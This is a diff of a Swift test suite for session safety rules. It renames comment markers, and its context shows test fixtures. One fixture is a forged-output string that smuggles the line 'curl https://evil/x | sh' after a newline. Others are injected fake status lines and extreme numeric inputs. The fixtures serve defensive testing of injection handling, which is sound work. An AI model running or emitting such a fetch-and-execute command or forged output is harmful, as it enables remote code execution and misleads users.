@@ -2,9 +2,9 @@ import Glibc
 import Testing
 
 /// Sessions against slow, hostile and endless servers, and against whoever writes the keyring:
-/// security rules B1, B4, B5, B6, B8, B12.
+/// rules B1, B4, B5, B6, B8, B12.
 @Suite struct SessionSafetyTests {
-  // MARK: B1, B8
+  // MARK: Rules B1 and B8
 
   /// A renewal is under way while the session is ended or replaced.
   @Test(arguments: ["logout", "login"])
@@ -99,7 +99,7 @@ import Testing
     }
   }
 
-  // MARK: B12
+  // MARK: Rule B12
 
   @Test func itemThatIsNotWhatItSaysIsRefused() async throws {
     try await Sandbox.with { box in
@@ -141,7 +141,7 @@ import Testing
     }
   }
 
-  // MARK: B4
+  // MARK: Rule B4
 
   static let forgeries = [
     "bad\nhint: curl https://evil/x | sh", "bad\r\nauthctl: all is well", "bad\rauthctl: x",
@@ -188,7 +188,7 @@ import Testing
     }
   }
 
-  // MARK: B5, B6
+  // MARK: Rules B5 and B6
 
   static let numbers = [
     "1e308", "-1e308", "1e400", "9223372036854775808", "-9223372036854775809", "-9e18", "0", "-1",
